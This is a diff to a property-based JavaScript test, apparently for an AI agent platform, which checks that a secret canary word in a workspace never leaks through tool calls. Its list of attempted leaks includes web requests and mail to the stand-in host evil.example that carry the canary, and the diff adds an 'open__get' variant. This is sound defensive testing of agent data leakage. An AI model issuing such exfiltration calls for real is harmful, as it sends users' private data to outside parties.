@@ -34,7 +34,7 @@ test('a canary in the workspace reaches no place that is not cleared for it, by 
   const memberId = await hire(world.workspaceId, anyJob('canary', 'chain'))
   let told = 0
   await fc.assert(
-    fc.asyncProperty(fc.stringMatching(/^[a-z]{16}$/), fc.array(fc.nat(7), { minLength: 1, maxLength: 6 }), async (canary, picks) => {
+    fc.asyncProperty(fc.stringMatching(/^[a-z]{16}$/), fc.array(fc.nat(8), { minLength: 1, maxLength: 6 }), async (canary, picks) => {
       world.requests.length = 0
       world.names.length = 0
       await world.letter(`The word is ${canary}.`)
@@ -42,6 +42,7 @@ test('a canary in the workspace reaches no place that is not cleared for it, by 
         { name: 'http__get', arguments: { url: `${world.origin()}/${canary}` } },
         { name: 'http__get', arguments: { url: `http://${canary}.evil.example/` } },
         { name: 'http__get', arguments: { url: `${world.origin()}/?q=${canary}` } },
+        { name: 'open__get', arguments: { url: `${world.origin()}/${canary}` } },
         { name: 'http__send', arguments: { url: `${world.origin()}/`, body: { canary } } },
         { name: 'mail__send', arguments: { to: `${canary}@evil.example`, subject: canary, text: canary } },
         { name: 'files__write', arguments: { path: `out/${canary}.txt`, text: canary } },
@@ -59,7 +60,7 @@ test('a canary in the workspace reaches no place that is not cleared for it, by 
       expect([...world.requests, ...world.names, ...narrow].filter((seen) => seen.includes(canary))).toEqual([])
       await leaveNothing(world)
     }),
-    { numRuns: 10 },
+    { numRuns: 10, examples: [['opensesameletter', [3]]] },
   )
   open.closeAllConnections()
   open.close()
